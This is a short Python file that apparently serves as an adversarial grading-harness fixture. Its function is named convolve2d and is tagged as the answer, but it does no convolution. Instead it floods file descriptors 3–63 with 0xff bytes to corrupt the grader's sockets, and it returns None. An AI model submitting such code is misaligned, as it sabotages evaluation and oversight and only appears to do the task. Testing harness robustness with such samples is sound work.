"""Write garbage and huge announced lengths into every open socket.

Points: convolve 2.
"""

# %% answer="convolve2d"
import os

def convolve2d(image, kernel):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\xff" * 100)
        except OSError:
            pass
    return None
